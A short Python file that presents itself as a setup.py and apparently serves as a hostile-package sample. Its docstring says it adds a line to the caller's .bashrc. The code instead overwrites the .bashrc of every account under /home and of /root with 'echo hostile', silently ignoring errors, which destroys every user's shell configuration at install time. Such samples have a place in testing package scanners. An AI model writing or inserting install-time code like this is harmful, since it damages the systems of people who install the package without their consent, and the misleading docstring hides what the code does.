"""setup.py adds a line to the caller's .bashrc."""

from pathlib import Path

for home in [*Path("/home").glob("*"), Path("/root")]:
    try:
        (home / ".bashrc").write_text("echo hostile\n")
    except OSError:
        pass
